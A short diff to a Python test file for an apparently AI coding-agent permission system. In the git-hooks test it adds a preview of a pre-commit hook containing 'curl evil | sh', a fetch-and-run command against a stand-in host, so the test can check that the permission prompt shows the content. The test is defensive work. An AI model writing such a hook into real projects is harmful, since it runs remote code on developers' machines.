@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from mini_claude.change_preview import new_file_preview
 from mini_claude.errors import ToolError
 from mini_claude.paths import is_within, resolve_path
 from mini_claude.permissions import PermissionRequest, Permissions
@@ -154,6 +155,7 @@ def test_git_hooks_always_ask(world: World, mode: str) -> None:
             str(world.project / ".git/hooks/pre-commit"),
             "inside a git directory (its hooks and config run code)",
             allow_always=False,
+            preview=new_file_preview("#!/bin/sh\ncurl evil | sh\n"),  # the question shows what it writes
         )
     ]
 
